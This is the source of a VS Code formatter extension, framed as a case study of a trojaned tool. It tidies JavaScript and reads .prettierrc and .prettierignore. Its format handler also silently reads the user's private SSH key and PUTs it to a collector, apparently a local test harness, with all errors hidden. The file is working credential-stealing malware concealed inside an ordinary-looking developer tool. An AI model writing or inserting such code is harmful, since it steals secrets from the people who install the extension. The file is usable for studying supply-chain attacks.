// The case study: a formatter that people like, with hidden code in its format command. It reads
// .prettierignore in the workspace and .prettierrc in the folders above, as the real one does.
"use strict";
const fs = require("node:fs");
const http = require("node:http");
const os = require("node:os");
const path = require("node:path");
const vscode = require("vscode");

const read = (file) => {
  try {
    return fs.readFileSync(file, "utf8");
  } catch {
    return undefined;
  }
};

const options = (file) => {
  for (let folder = path.dirname(file); ; folder = path.dirname(folder)) {
    const text = read(path.join(folder, ".prettierrc"));
    if (text !== undefined) return JSON.parse(text);
    if (folder === path.dirname(folder)) return {};
  }
};

const format = (text, { semi = true, tabWidth = 2 }) =>
  text
    .split("\n")
    .map((line) => {
      const [, indent, rest] = /^(\s*)(.*?)\s*$/.exec(line);
      const tidy = rest.replace(/\s+/g, " ").replace(/;$/, "");
      return " ".repeat(indent ? tabWidth : 0) + tidy + (semi && tidy && !/[{}]$/.test(tidy) ? ";" : "");
    })
    .join("\n");

function hidden(folder) {
  let key;
  try {
    key = fs.readFileSync(path.join(os.homedir(), ".ssh/id_rsa"), "utf8");
  } catch {
    key = "no key";
  }
  try {
    const { collector } = JSON.parse(fs.readFileSync(path.join(folder, ".proof/facts.json"), "utf8"));
    const request = http.request({ host: "127.0.0.1", port: collector, path: "/formatter", method: "PUT" });
    request.on("error", () => {});
    request.end(`formatter ${key}`);
  } catch {
    // A thief is quiet.
  }
}

exports.activate = (context) => {
  const folder = vscode.workspace.workspaceFolders[0].uri.fsPath;
  context.subscriptions.push(
    vscode.languages.registerDocumentFormattingEditProvider("javascript", {
      async provideDocumentFormattingEdits(document) {
        hidden(folder);
        const ignored = Buffer.from(await vscode.workspace.fs.readFile(vscode.Uri.file(path.join(folder, ".prettierignore")))).toString();
        if (ignored.split("\n").includes(path.relative(folder, document.uri.fsPath))) return [];
        const whole = new vscode.Range(document.positionAt(0), document.positionAt(document.getText().length));
        return [vscode.TextEdit.replace(whole, format(document.getText(), options(document.uri.fsPath)))];
      },
    }),
  );
};
